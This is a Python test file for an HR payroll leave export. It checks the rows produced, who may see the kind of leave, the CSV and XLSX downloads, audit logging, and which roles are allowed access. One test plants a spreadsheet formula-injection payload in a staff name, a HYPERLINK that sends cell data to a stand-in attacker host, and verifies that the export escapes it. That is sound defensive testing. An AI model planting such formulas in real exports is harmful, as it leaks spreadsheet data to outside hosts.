"""HR's leave export for payroll: the rows, who sees the kind of leave, the CSV and XLSX files
and the page that gives them."""

from __future__ import annotations

import csv
from datetime import date
from decimal import Decimal
from io import BytesIO, StringIO

import pytest
import time_machine
from openpyxl import load_workbook

from audit.models import Action, AuditEvent
from leave.models import CarersLeaveRequest
from leave.payroll import CARERS_LEAVE, DEPENDANTS_TIME_OFF, rows_between
from leave.services import carers_leave_accept, carers_leave_request, dependants_time_off_record

TODAY = date(2026, 11, 23)
START, END = date(2026, 12, 1), date(2026, 12, 31)

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _today():
    with time_machine.travel(TODAY):
        yield


def _book(world, staff=None, days=((date(2026, 12, 14), "full"), (date(2026, 12, 15), "am"))):
    staff = staff or world.carer_record
    return carers_leave_request(
        staff=staff, days=list(days), note="", by=staff.user or world.hr_admin, today=TODAY
    )


def _time_off(world, first_day=date(2026, 12, 2), days=Decimal("2")):
    return dependants_time_off_record(
        staff=world.carer_record,
        first_day=first_day,
        days=days,
        note="Childminder ill",
        by=world.carer,
        today=first_day,  # recorded on the day: it is for emergencies
    )


def _download(client, world, kind="csv", start=START, end=END):
    client.force_login(world.hr_admin)
    return client.get(
        f"/o/{world.org.slug}/leave/export/",
        {"start": start.isoformat(), "end": end.isoformat(), "format": kind},
    )


def _csv(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(StringIO(text)))


# -- the rows ------------------------------------------------------------------------------


def test_rows_give_each_booked_period_with_days_hours_and_kind_for_hr(world):
    leave = _book(world)
    carers_leave_accept(request=leave, by=world.manager)
    _time_off(world)
    rows = list(
        rows_between(
            viewer=world.hr_admin, organisation=world.org, start=START, end=END, today=TODAY
        )
    )
    assert [row.kind for row in rows] == [CARERS_LEAVE, DEPENDANTS_TIME_OFF]
    carers, dependants = rows
    assert carers.staff_number == "C001"
    assert carers.unit == "Ward 1"
    assert (carers.first_day, carers.last_day) == (date(2026, 12, 14), date(2026, 12, 15))
    assert carers.days == Decimal("1.5")
    assert carers.parts == ((date(2026, 12, 14), "full"), (date(2026, 12, 15), "am"))
    staff = world.carer_record
    assert carers.hours == (Decimal("1.5") * staff.hours_per_week / staff.days_per_week).quantize(
        Decimal("0.01")
    )
    assert (carers.status, carers.reference) == ("accepted", f"CL-{leave.pk}")
    assert (dependants.first_day, dependants.last_day) == (date(2026, 12, 2), date(2026, 12, 3))
    assert dependants.status == "recorded"


def test_rows_leave_out_periods_outside_the_dates_and_other_organisations(world):
    _book(world, days=((date(2027, 1, 11), "full"),))
    _time_off(world, first_day=date(2026, 11, 2), days=Decimal("1"))
    _book(world, staff=world.outsider_record)
    rows = rows_between(
        viewer=world.hr_admin, organisation=world.org, start=START, end=END, today=TODAY
    )
    assert list(rows) == []


def test_time_off_that_began_before_the_dates_and_runs_into_them_is_included(world):
    _time_off(world, first_day=date(2026, 11, 28), days=Decimal("5"))
    rows = list(
        rows_between(
            viewer=world.hr_admin, organisation=world.org, start=START, end=END, today=TODAY
        )
    )
    assert [row.first_day for row in rows] == [date(2026, 11, 28)]


def test_kind_of_leave_is_hidden_from_a_reader_who_may_not_see_it(world):
    """Trust rule 3: the kind says who is a carer. The new manager manages nobody, so for them
    every row is plain statutory leave, with nothing that tells the kinds apart."""
    _book(world)
    _time_off(world)
    rows = list(
        rows_between(
            viewer=world.new_manager, organisation=world.org, start=START, end=END, today=TODAY
        )
    )
    assert [row.kind for row in rows] == [None, None]
    assert {row.kind_label for row in rows} == {"Statutory leave"}
    assert {row.parts for row in rows} == {()}
    assert {row.status for row in rows} == {"requested", "booked"}
    assert not any(row.reference.startswith(("CL-", "TD-")) for row in rows)
    # The line manager in post sees the kind of their own report's leave, as on the calendar.
    managed = rows_between(
        viewer=world.manager, organisation=world.org, start=START, end=END, today=TODAY
    )
    assert [row.kind for row in managed] == [CARERS_LEAVE, DEPENDANTS_TIME_OFF]


def test_a_change_of_status_moves_the_requests_updated_time(world):
    leave = _book(world)
    before = CarersLeaveRequest.objects.get(pk=leave.pk).updated_at
    with time_machine.travel("2026-11-24 09:00Z"):
        carers_leave_accept(request=leave, by=world.manager)
    assert CarersLeaveRequest.objects.get(pk=leave.pk).updated_at > before


# -- the files -----------------------------------------------------------------------------


def test_hr_downloads_a_csv_of_the_periods_and_the_download_is_audited(client, world):
    _book(world)
    _time_off(world)
    response = _download(client, world)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"] == (
        'attachment; filename="leave-2026-12-01-to-2026-12-31.csv"'
    )
    assert "no-store" in response["Cache-Control"]
    rows = _csv(response)
    assert rows[0][:3] == ["Reference", "Staff number", "Name"]
    assert [row[10] for row in rows[1:]] == ["Carer's leave", "Time off for dependants"]
    assert rows[1][7] == "2026-12-14 Full day; 2026-12-15 Morning"
    event = AuditEvent.objects.get(
        action=Action.EXPORT, actor=world.hr_admin, object_type="organisations.organisation"
    )
    assert event.organisation_id == world.org.pk
    assert "2026-12-01 to 2026-12-31 as CSV" in event.summary
    # Each row against its own record too: a carer's record shows that HR exported it.
    assert set(
        AuditEvent.objects.filter(action=Action.EXPORT, actor=world.hr_admin)
        .exclude(object_type="organisations.organisation")
        .values_list("object_type", flat=True)
    ) == {"leave.carersleaverequest", "leave.dependantstimeoff"}


def test_hr_downloads_the_same_rows_as_xlsx(client, world):
    _book(world)
    response = _download(client, world, kind="xlsx")
    assert response.status_code == 200
    sheet = load_workbook(BytesIO(b"".join(response.streaming_content))).worksheets[0]
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values[0][1] == "Staff number"
    assert values[1][1] == "C001"
    assert values[1][10] == "Carer's leave"


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_typed_text_in_a_cell_never_runs_as_a_formula(client, world, kind):
    record = world.carer_record
    record.first_name = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    record.last_name = "@SUM(1+1)"
    record.save()
    _book(world)
    response = _download(client, world, kind=kind)
    if kind == "csv":
        name = _csv(response)[1][2]
    else:
        sheet = load_workbook(BytesIO(b"".join(response.streaming_content))).worksheets[0]
        name = sheet["C2"].value
    assert name.startswith("'=HYPERLINK")


def test_the_page_asks_for_dates_and_refuses_a_range_backwards_keeping_what_was_typed(
    client, world
):
    client.force_login(world.hr_admin)
    url = f"/o/{world.org.slug}/leave/export/"
    page = client.get(url)
    assert page.status_code == 200
    assert b"Download leave for payroll" in page.content
    response = client.get(url, {"start": "2026-12-31", "end": "2026-12-01", "format": "csv"})
    assert response.status_code == 200
    content = response.content.decode()
    assert "govuk-error-summary" in content
    assert 'value="2026-12-31"' in content
    assert not AuditEvent.objects.filter(action=Action.EXPORT).exists()
    bad = client.get(url, {"start": "not a date", "end": "2026-12-01", "format": "csv"})
    assert 'value="not a date"' in bad.content.decode()


def test_the_export_is_linked_from_hrs_leave_pages(client, world):
    client.force_login(world.hr_admin)
    for path in ("", "all/"):
        page = client.get(f"/o/{world.org.slug}/leave/{path}")
        assert f"/o/{world.org.slug}/leave/export/" in page.content.decode()
    client.force_login(world.carer)
    assert b"/leave/export/" not in client.get(f"/o/{world.org.slug}/leave/").content


def test_a_leaver_who_held_hr_roles_cannot_download(client, world):
    _book(world)
    client.force_login(world.leaver)
    response = client.get(
        f"/o/{world.org.slug}/leave/export/",
        {"start": START.isoformat(), "end": END.isoformat(), "format": "csv"},
    )
    assert response.status_code == 403
    assert not AuditEvent.objects.filter(action=Action.EXPORT).exists()


@pytest.mark.parametrize("persona", ["carer", "manager", "champion", "sponsor"])
def test_only_hr_may_download(client, world, persona):
    client.force_login(getattr(world, persona))
    assert client.get(f"/o/{world.org.slug}/leave/export/").status_code == 403
